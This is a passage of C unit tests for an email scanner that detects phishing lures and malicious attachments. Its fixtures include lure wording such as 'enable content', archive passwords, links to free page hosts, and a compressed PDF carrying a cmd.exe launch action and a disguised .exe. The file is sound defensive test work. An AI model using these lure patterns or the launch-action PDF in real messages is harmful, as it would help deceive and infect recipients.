	ck_assert(cs.fired[R_BRAND]);
	ck_assert(cs.fired[R_BRAND_LINK]);
	ck_assert_double_lt(cs.score, 5.0);
}
END_TEST

/* ----------------------------------------------------- attachments */

static void
score_fixture(const char *name, struct content_score *cs)
{
	size_t len;
	char *data = ck_data("content", name, &len);

	content_score_message(data, len, NULL, cs);
	free(data);
}

/* score_attached - a message with text and one attachment named name */
static void
score_attached(const char *text, const char *name, struct content_score *cs)
{
	char *m = xasprintf("From: Alice <alice@shop.example>\r\n"
	    "To: bob@example.org\r\nSubject: order\r\n"
	    "Date: Mon, 2 Mar 2026 09:12:00 +0100\r\n"
	    "Message-ID: <att@shop.example>\r\nMIME-Version: 1.0\r\n"
	    "Content-Type: multipart/mixed; boundary=\"b1\"\r\n\r\n"
	    "--b1\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n%s\r\n"
	    "--b1\r\nContent-Type: application/octet-stream\r\n"
	    "Content-Disposition: attachment; filename=\"%s\"\r\n"
	    "Content-Transfer-Encoding: base64\r\n\r\nAAAAAAAA\r\n"
	    "--b1--\r\n", text, name);

	content_score_message(m, strlen(m), NULL, cs);
	free(m);
}

/* "enable content" counts beside a document with macros, not beside a
 * PDF; "double-click" beside a script; a password beside an archive */
START_TEST(test_open_lure)
{
	struct content_score cs;

	score_attached("Please enable content to see the order.", "order.docm",
	    &cs);
	ck_assert(cs.fired[R_MACRO]);
	ck_assert(cs.fired[R_ATTACH_OPEN_LURE]);
	score_attached("Please enable content to see the order.", "order.pdf",
	    &cs);
	ck_assert(!cs.fired[R_ATTACH_OPEN_LURE]);
	score_attached("Double-click the file to view it.", "scan.one", &cs);
	ck_assert(cs.fired[R_ATTACH_OPEN_LURE]);
	ck_assert_double_ge(cs.score, 5.0);
	score_attached("The order is attached.", "order.docm", &cs);
	ck_assert(!cs.fired[R_ATTACH_OPEN_LURE]);
	score_attached("The files are encrypted, password: 1234", "docs.7z",
	    &cs);
	ck_assert(cs.fired[R_ARCHIVE_PASSWORD]);
	score_attached("The files, password: 1234", "docs.pdf", &cs);
	ck_assert(!cs.fired[R_ARCHIVE_PASSWORD]);
}
END_TEST

/* an attached login page or a scripted image refuses on its own; a
 * theme's hotfix and a logo score nothing */
START_TEST(test_attached_pages)
{
	struct content_score cs;

	score_fixture("page_login.eml", &cs);
	ck_assert(cs.fired[R_ATTACH_HTML_LOGIN]);
	ck_assert_double_ge(cs.score, 5.0);
	score_fixture("page_svg.eml", &cs);
	ck_assert(cs.fired[R_ATTACH_HTML_REDIRECT]);
	ck_assert_double_ge(cs.score, 5.0);
	score_fixture("svg_logo.eml", &cs);
	ck_assert_double_eq(cs.score, 0);
	score_fixture("hotfix_zip.eml", &cs);
	ck_assert_msg(!cs.fired[R_ARCHIVE_EXEC], "a project's script counted");
	ck_assert_double_eq(cs.score, 0);
	score_fixture("zip_js.eml", &cs);
	ck_assert(cs.fired[R_ARCHIVE_EXEC]);
	score_fixture("onenote.eml", &cs);
	ck_assert(cs.fired[R_SCRIPT]);
}
END_TEST

/* doc_fixture - the MIME walk of a fixture, into *doc */
static void
doc_fixture(const char *name, struct mime_doc *doc)
{
	size_t len;
	char *data = ck_data("content", name, &len);

	mime_parse(data, len, doc);
	free(data);
}

/* reads_file_link - the fixture's message has exactly one link read from
 * an attachment of kind source (MIME_LINK_*), and it is href */
static void
reads_file_link(const char *fixture, int source, const char *href)
{
	struct mime_doc doc;
	size_t i, n = 0;

	doc_fixture(fixture, &doc);
	for (i = 0; i < doc.nlinks; i++)
		if (doc.links[i].source == source) {
			ck_assert_str_eq(doc.links[i].href, href);
			n++;
		}
	ck_assert_uint_eq(n, 1);
	mime_doc_free(&doc);
}

/* qr_links - how many of doc's links came from QR codes; the first's
 * address in *first */
static size_t
qr_links(const struct mime_doc *doc, const char **first)
{
	size_t i, n = 0;

	*first = NULL;
	for (i = 0; i < doc->nlinks; i++)
		if (doc->links[i].source == MIME_LINK_QR && n++ == 0)
			*first = doc->links[i].href;
	return n;
}

/* a QR code's link in a PNG or a JPEG (sent as octet-stream) is read as
 * the message's; to another site it is QR_LINK, to a free page host
 * FILE_LINK_LURE as well, to the sender's own it is nothing; four images
 * are read; a broken image is none */
START_TEST(test_qr_codes)
{
	struct content_score cs;
	struct mime_doc doc;
	const char *href;

	doc_fixture("qr_png.eml", &doc);
	ck_assert_uint_eq(qr_links(&doc, &href), 1);
	ck_assert_str_eq(href, "https://mfa-renew.lure.example/t/8f3a");
	mime_doc_free(&doc);
	doc_fixture("qr_jpeg.eml", &doc);
	ck_assert_uint_eq(qr_links(&doc, &href), 1);
	ck_assert_str_eq(href, "https://mfa-renew.lure.example/t/8f3a");
	mime_doc_free(&doc);
	doc_fixture("qr_many.eml", &doc);
	ck_assert_uint_eq(doc.qr_images, MIME_QR_MAX_IMAGES);
	ck_assert_uint_eq(qr_links(&doc, &href), MIME_QR_MAX_IMAGES);
	mime_doc_free(&doc);
	doc_fixture("qr_broken.eml", &doc);
	ck_assert_uint_eq(qr_links(&doc, &href), 0);
	mime_doc_free(&doc);

	score_fixture("qr_png.eml", &cs);
	ck_assert(cs.fired[R_QR_LINK]);
	score_fixture("qr_jpeg.eml", &cs);
	ck_assert(cs.fired[R_QR_LINK]);
	ck_assert(!cs.fired[R_FILE_LINK_LURE]);
	score_fixture("qr_lure.eml", &cs);
	ck_assert(cs.fired[R_QR_LINK]);
	ck_assert(cs.fired[R_FILE_LINK_LURE]);
	score_fixture("qr_own.eml", &cs);
	ck_assert(!cs.fired[R_QR_LINK]);
	ck_assert_double_eq(cs.score, 0);
}
END_TEST

/* an Office document's hyperlinks are read from its relationship parts;
 * one to a lure host is FILE_LINK_LURE, one to the sender's site nothing */
START_TEST(test_office_links)
{
	struct content_score cs;

	reads_file_link("docx_lure.eml", MIME_LINK_OFFICE,
	    "https://sharepoint-docs.pages.dev/view?id=0412&u=1");
	score_fixture("docx_lure.eml", &cs);
	ck_assert(cs.fired[R_FILE_LINK_LURE]);
	ck_assert(cs.fired[R_URL_BRAND_HOST]);
	score_fixture("docx_own.eml", &cs);
	ck_assert_double_eq(cs.score, 0);
}
END_TEST

/* zip_stored - a zip of stored members (name, content, ...) into out:
 * its length */
static size_t
zip_stored(unsigned char *out, const char *const *members, size_t n)
{
	size_t p = 0, cd, k, cdlen;
	uint32_t offs[8];

	for (k = 0; k < n; k++) {
		const char *name = members[2 * k], *data = members[2 * k + 1];
		size_t nl = strlen(name), dl = strlen(data);

		offs[k] = (uint32_t)p;
		memcpy(out + p, "PK\3\4\24\0\0\0\0\0\0\0\0\0"
		    "\0\0\0\0", 18);
		out[p + 18] = out[p + 22] = (unsigned char)(dl & 0xff);
		out[p + 19] = out[p + 23] = (unsigned char)(dl >> 8);
		out[p + 20] = out[p + 21] = out[p + 24] = out[p + 25] = 0;
		out[p + 26] = (unsigned char)nl;
		out[p + 27] = out[p + 28] = out[p + 29] = 0;
		memcpy(out + p + 30, name, nl);
		memcpy(out + p + 30 + nl, data, dl);
		p += 30 + nl + dl;
	}
	cd = p;
	for (k = 0; k < n; k++) {
		const char *name = members[2 * k], *data = members[2 * k + 1];
		size_t nl = strlen(name), dl = strlen(data);

		memset(out + p, 0, 46);
		memcpy(out + p, "PK\1\2", 4);
		out[p + 20] = out[p + 24] = (unsigned char)(dl & 0xff);
		out[p + 21] = out[p + 25] = (unsigned char)(dl >> 8);
		out[p + 28] = (unsigned char)nl;
		out[p + 42] = (unsigned char)(offs[k] & 0xff);
		out[p + 43] = (unsigned char)(offs[k] >> 8);
		memcpy(out + p + 46, name, nl);
		p += 46 + nl;
	}
	cdlen = p - cd;
	memset(out + p, 0, 22);
	memcpy(out + p, "PK\5\6", 4);
	out[p + 8] = out[p + 10] = (unsigned char)n;
	out[p + 12] = (unsigned char)(cdlen & 0xff);
	out[p + 13] = (unsigned char)(cdlen >> 8);
	out[p + 16] = (unsigned char)(cd & 0xff);
	out[p + 17] = (unsigned char)(cd >> 8);
	return p + 22;
}

/* external relationships in any attribute order and quoting, entities
 * undone; internal ones, the package's own .rels and non-web targets
 * are not links; every cut of the archive reads what fits (ASan) */
START_TEST(test_ooxml_rels)
{
	static const char *const members[] = {
		"[Content_Types].xml", "<Types/>",
		"_rels/.rels", "<Relationship Target=\"https://pkg.example/\" "
		    "TargetMode=\"External\"/>",
		"xl/worksheets/_rels/sheet1.xml.rels", "<Relationships>"
		    "<Relationship TargetMode='External' Id='rId1' Target="
		    "'https://a.example/x?a=1&amp;b=2'/><Relationship Id=\"r2\""
		    " Target=\"../drawings/drawing1.xml\"/><Relationship Id="
		    "\"r3\" Target=\"mailto:a@b.example\" TargetMode=\"External"
		    "\"/><Relationship Id=\"r4\" NotTarget=\"https://c.example/"
		    "\" Target=\"https://b.example/\" TargetMode=\"External\"/>"
		    "</Relationships>",
	};
	unsigned char zip[2048];
	size_t n = zip_stored(zip, members, 3), k;
	struct buf out;

	buf_init(&out);
	ck_assert_int_eq(mime_ooxml_links(zip, n, &out), 2);
	ck_assert_str_eq(out.data, "https://a.example/x?a=1&b=2");
	ck_assert_str_eq(out.data + strlen(out.data) + 1,
	    "https://b.example/");
	buf_free(&out);
	for (k = 0; k <= n; k++) {
		unsigned char *cut = xmalloc(k > 0 ? k : 1);

		memcpy(cut, zip, k);
		buf_init(&out);
		(void)mime_ooxml_links(cut, k, &out);
		buf_free(&out);
		free(cut);
	}
}
END_TEST

/* a meeting invite's join link is read from its iCalendar part, lines
 * unfolded and escapes undone; a lure host's is FILE_LINK_LURE, the
 * real Teams link nothing */
START_TEST(test_calendar_links)
{
	struct content_score cs;

	reads_file_link("ics_lure.eml", MIME_LINK_ICS,
	    "https://teams-meeting-join.pages.dev/l/meetup-join/"
	    "19%3ameeting_NGQ1ZTk3YjQtMDA1Yi00@thread.v2/0");
	score_fixture("ics_lure.eml", &cs);
	ck_assert(cs.fired[R_FILE_LINK_LURE]);
	ck_assert(cs.fired[R_URL_FREE_HOST]);
	score_fixture("ics_teams.eml", &cs);
	ck_assert_double_eq(cs.score, 0);
}
END_TEST

/* HTML smuggling, with its script before the payload and after 300 KB
 * of it; a report's CSV download and a chart's image download are not */
START_TEST(test_html_smuggling)
{
	struct content_score cs;

	score_fixture("smuggle_zip.eml", &cs);
	ck_assert(cs.fired[R_ATTACH_HTML_SMUGGLE]);
	score_fixture("smuggle_tail.eml", &cs);
	ck_assert(cs.fired[R_ATTACH_HTML_SMUGGLE]);
	score_fixture("page_report_csv.eml", &cs);
	ck_assert(!cs.fired[R_ATTACH_HTML_SMUGGLE]);
	ck_assert_double_eq(cs.score, 0);
	score_fixture("page_chart_png.eml", &cs);
	ck_assert(!cs.fired[R_ATTACH_HTML_SMUGGLE]);
	ck_assert_double_eq(cs.score, 0);
}
END_TEST

/* an attached PDF's link is read: to a page host it is a lure, to the
 * sender's own site nothing */
START_TEST(test_pdf_links)
{
	struct content_score cs;

	reads_file_link("pdf_lure.eml", MIME_LINK_PDF,
	    "https://invoice-view.pages.dev/d/0412");
	score_fixture("pdf_lure.eml", &cs);
	ck_assert(cs.fired[R_FILE_LINK_LURE]);
	ck_assert(cs.fired[R_URL_FREE_HOST]);
	/* as qpdf (and Word, and Ghostscript) write it: in an object stream */
	score_fixture("pdf_objstm_lure.eml", &cs);
	ck_assert(cs.fired[R_FILE_LINK_LURE]);
	ck_assert(cs.fired[R_URL_FREE_HOST]);
	score_fixture("pdf_own.eml", &cs);
	ck_assert_double_eq(cs.score, 0);
}
END_TEST

/* a program embedded in a PDF is a program in an archive; a launch
 * action is PDF_LAUNCH; an e-invoice's embedded XML is nothing; "/F" is
 * a key of its own, not the start of "/Filter" */
START_TEST(test_pdf_contents)
{
	static const char filter_first[] = "%PDF-1.7\n<</Type/Filespec"
	    "/Filter/FlateDecode/F (a.js)>>";
	struct content_score cs;
	struct mime_attachment a;
	struct buf out;

	score_fixture("pdf_exe.eml", &cs);
	ck_assert(cs.fired[R_ARCHIVE_EXEC]);
	ck_assert(cs.fired[R_DOUBLE_EXT]);
	score_fixture("pdf_launch.eml", &cs);
	ck_assert(cs.fired[R_PDF_LAUNCH]);
	score_fixture("pdf_facturx.eml", &cs);
	ck_assert_double_eq(cs.score, 0);

	memset(&a, 0, sizeof(a));
	buf_init(&out);
	ck_assert_int_eq(mime_pdf_read((const unsigned char *)filter_first,
	    sizeof(filter_first) - 1, &out, &a), 0);
	buf_free(&out);
	ck_assert_uint_eq(a.ninner, 1);
	ck_assert_str_eq(a.inner[0], "a.js");
	ck_assert_int_eq(a.pdf_launch, 0);
	free(a.inner[0]);
	free(a.inner);
}
END_TEST

/* a program in an attached 7z is a program in an archive; a 7z whose
 * names are encrypted is an encrypted archive */
START_TEST(test_7z_attached)
{
	struct content_score cs;

	score_fixture("sevenzip_exe.eml", &cs);
	ck_assert(cs.fired[R_ARCHIVE_EXEC]);
	ck_assert(cs.fired[R_DOUBLE_EXT]);
	score_fixture("sevenzip_hidden.eml", &cs);
	ck_assert(cs.fired[R_ENCRYPTED_ZIP]);
	ck_assert(!cs.fired[R_ARCHIVE_EXEC]);
}
END_TEST

/* link actions as a PDF writes them: nested and escaped parentheses,
 * white space, a non-web link, a string cut short */
START_TEST(test_pdf_uris)
{
	static const char pdf[] = "%PDF-1.7\n<</A<</S/URI/URI (https://a."
	    "example/x\\(1\\))>>>> <</URI\n  (http://b.example/(y))>> "
	    "<</URI (mailto:c@example.org)>> <</URI (https://d.example/";
	struct buf out;

	buf_init(&out);
	ck_assert_int_eq(mime_pdf_read((const unsigned char *)pdf,
	    sizeof(pdf) - 1, &out, NULL), 2);
	ck_assert_str_eq(out.data, "https://a.example/x(1)");
	ck_assert_str_eq(out.data + strlen(out.data) + 1,
	    "http://b.example/(y)");
	buf_free(&out);
	buf_init(&out);
	ck_assert_int_eq(mime_pdf_read((const unsigned char *)"<</URI (http"
	    "s://a.example/)>>", 24, &out, NULL), 0); /* not a PDF */
	buf_free(&out);
}
END_TEST

/* pdf_objstm - a PDF 1.5 whose objects body[] (each "N 0 obj" written
 * without its header) sit deflated in one object stream, as Word and
 * qpdf write them; junk after the stream's data when cut is set */
static size_t
pdf_objstm(const char *body, char *pdf, size_t room, int cut)
{
	unsigned char z[4096];
	uLongf zlen = sizeof(z);
	size_t n;

	ck_assert_int_eq(compress2(z, &zlen, (const unsigned char *)body,
	    strlen(body), 9), Z_OK);
	if (cut)
		zlen /= 2;
	n = (size_t)snprintf(pdf, room, "%%PDF-1.5\n1 0 obj\n<< /Type "
	    "/ObjStm /Length %lu /Filter /FlateDecode /N 1 /First 4 >>\n"
	    "stream\r\n", (unsigned long)zlen);
	ck_assert_uint_lt(n + zlen + 64, room);
	memcpy(pdf + n, z, zlen);
	n += zlen;
	n += (size_t)snprintf(pdf + n, room - n, "\r\nendstream\nendobj\n"
	    "%%%%EOF\n");
	return n;
}

/* a link annotation, a launch action and an embedded file's name inside
 * a compressed object stream are read as if written plainly; a stream
 * cut short gives what was inflated before the cut, and nothing breaks */
START_TEST(test_pdf_object_stream)
{
	static const char body[] = "4 0 << /Type /Annot /Subtype /Link "
	    "/A << /S /URI /URI (https://docs-share.r2.dev/v/0412) >> >> "
	    "<< /Type /Filespec /F (scan.pdf.exe) >> "
	    "<< /S /Launch /F (cmd.exe) >>";
	char pdf[8192];
	struct mime_attachment a;
	struct buf out;
	size_t n;

	n = pdf_objstm(body, pdf, sizeof(pdf), 0);
	memset(&a, 0, sizeof(a));
	buf_init(&out);
	ck_assert_int_eq(mime_pdf_read((const unsigned char *)pdf, n, &out,
	    &a), 1);
	ck_assert_str_eq(out.data, "https://docs-share.r2.dev/v/0412");
	ck_assert_uint_eq(a.ninner, 1);
	ck_assert_str_eq(a.inner[0], "scan.pdf.exe");
	ck_assert_int_eq(a.pdf_launch, 1);
	free(a.inner[0]);
	free(a.inner);
	buf_free(&out);

	/* the deflated bytes cut in half: no link, no crash */
	n = pdf_objstm(body, pdf, sizeof(pdf), 1);
	buf_init(&out);
	ck_assert_int_eq(mime_pdf_read((const unsigned char *)pdf, n, &out,
	    NULL), 0);
	buf_free(&out);

	/* the stream's filter is not Flate: not inflated */
	n = pdf_objstm(body, pdf, sizeof(pdf), 0);
	memcpy(strstr(pdf, "/FlateDecode"), "/LZWDecodeXX", 12);
	buf_init(&out);
	ck_assert_int_eq(mime_pdf_read((const unsigned char *)pdf, n, &out,
	    NULL), 0);
	buf_free(&out);
}
END_TEST

/* a stream that inflates past MIME_PDF_MAX_INFLATED is read only that
 * far: a link behind 5 MB of blanks is not seen, one before them is */
START_TEST(test_pdf_object_stream_bound)
{
	static const char head[] = "4 0 << /URI (https://first.example/) >>";
	static const char tail[] = "<< /URI (https://last.example/) >>";
	size_t blanks = 5 * 1024 * 1024, blen, n;
	char *body = xmalloc(sizeof(head) + blanks + sizeof(tail));
	uLongf zlen = compressBound(sizeof(head) + blanks + sizeof(tail));
	unsigned char *z = xmalloc(zlen);
	struct buf pdf, out;

	memcpy(body, head, sizeof(head) - 1);
	memset(body + sizeof(head) - 1, ' ', blanks);
	memcpy(body + sizeof(head) - 1 + blanks, tail, sizeof(tail));
	blen = strlen(body);
	ck_assert_int_eq(compress2(z, &zlen, (unsigned char *)body, blen, 9),
	    Z_OK);
	buf_init(&pdf);
	buf_printf(&pdf, "%%PDF-1.5\n1 0 obj << /Type /ObjStm /Filter "
	    "/FlateDecode /Length %lu >> stream\n", (unsigned long)zlen);
	buf_append(&pdf, z, zlen);
	buf_printf(&pdf, "\nendstream endobj\n");
	buf_init(&out);
	n = (size_t)mime_pdf_read((const unsigned char *)pdf.data, pdf.len,
	    &out, NULL);
	ck_assert_uint_eq(n, 1);
	ck_assert_str_eq(out.data, "https://first.example/");
	buf_free(&out);
	buf_free(&pdf);
	free(z);
	free(body);
}
END_TEST

/* a link written as a hex string, as some PDF writers do */
START_TEST(test_pdf_hex_uri)
{
	static const char pdf[] = "%PDF-1.7\n<</S/URI/URI <68747470733A2F2F"
	    "612E6578616D706C652F78>>> <</URI <6874747>>> <</URI <zz>>>";
	struct buf out;

	buf_init(&out);
	ck_assert_int_eq(mime_pdf_read((const unsigned char *)pdf,
	    sizeof(pdf) - 1, &out, NULL), 1);
	ck_assert_str_eq(out.data, "https://a.example/x");
	buf_free(&out);
}
END_TEST

Suite *
lure_suite(void)
{
	Suite *s = suite_create("lure");
	TCase *tc = tcase_create("lure");

	tcase_add_loop_test(tc, test_brand_in_host, 0,
	    sizeof(host_cases) / sizeof(host_cases[0]));
	tcase_add_loop_test(tc, test_page_examine, 0,
	    sizeof(page_cases) / sizeof(page_cases[0]));
	tcase_add_test(tc, test_page_big_report);
	tcase_add_test(tc, test_punycode);
	tcase_add_test(tc, test_rar_names);
	tcase_add_test(tc, test_pdf_object_stream);
	tcase_add_test(tc, test_pdf_object_stream_bound);
	tcase_add_test(tc, test_pdf_hex_uri);
	tcase_add_test(tc, test_rar_truncated);
	tcase_add_loop_test(tc, test_7z_names, 0,
	    sizeof(sevenzip_cases) / sizeof(sevenzip_cases[0]));
	tcase_add_test(tc, test_7z_damaged);
	tcase_add_test(tc, test_7z_attached);
	tcase_add_loop_test(tc, test_mail_rules, 0,
	    sizeof(mail_cases) / sizeof(mail_cases[0]));
	tcase_add_test(tc, test_brand_name_alone_under_threshold);
	tcase_add_test(tc, test_attached_pages);
	tcase_add_test(tc, test_open_lure);
	tcase_add_test(tc, test_qr_codes);
	tcase_add_test(tc, test_pdf_links);
	tcase_add_test(tc, test_calendar_links);
	tcase_add_test(tc, test_office_links);
	tcase_add_test(tc, test_html_smuggling);
	tcase_add_test(tc, test_ooxml_rels);
	tcase_add_test(tc, test_pdf_uris);
	tcase_add_test(tc, test_pdf_contents);
	suite_add_tcase(s, tc);
	return s;
}
